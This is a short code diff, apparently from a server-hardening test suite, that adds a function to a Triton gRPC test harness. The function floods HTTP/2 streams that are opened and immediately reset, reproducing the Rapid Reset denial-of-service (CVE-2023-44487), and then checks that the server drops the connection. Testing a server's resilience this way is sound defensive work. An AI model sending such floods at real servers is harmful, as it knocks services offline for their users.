@@ -5,6 +5,7 @@ import contextlib
 import functools
 import gzip
 import socket
+import struct
 import threading
 import zlib
 
@@ -12,7 +13,7 @@ import attacks
 import grpc
 import numpy as np
 import tritonclient.grpc as triton
-from mutations import PREFACE, call_frames
+from mutations import PREFACE, call_frames, call_head, frame
 from tritonclient.grpc import service_pb2
 
 
@@ -78,6 +79,15 @@ def bombs(server, count):
                 client.sendall(bomb_frames(encoding))
             for client in clients:
                 read_to_trailers(client)
+
+
+def rapid_resets(server, count):
+    """Calls that are reset as soon as they are begun (CVE-2023-44487), until the server sends the client away."""
+    head = call_head()
+    calls = [frame(1, 4, 2 * i + 1, head) + frame(3, 0, 2 * i + 1, struct.pack(">I", 8)) for i in range(count)]
+    with attacks.connect(server.grpc) as connection:
+        attacks.send(connection, PREFACE + frame(4, 0, 0, b"") + b"".join(calls))
+        attacks.read_to_end(connection)  # it is closed: what goes on gets no answer
 
 
 def ask_anew(server):
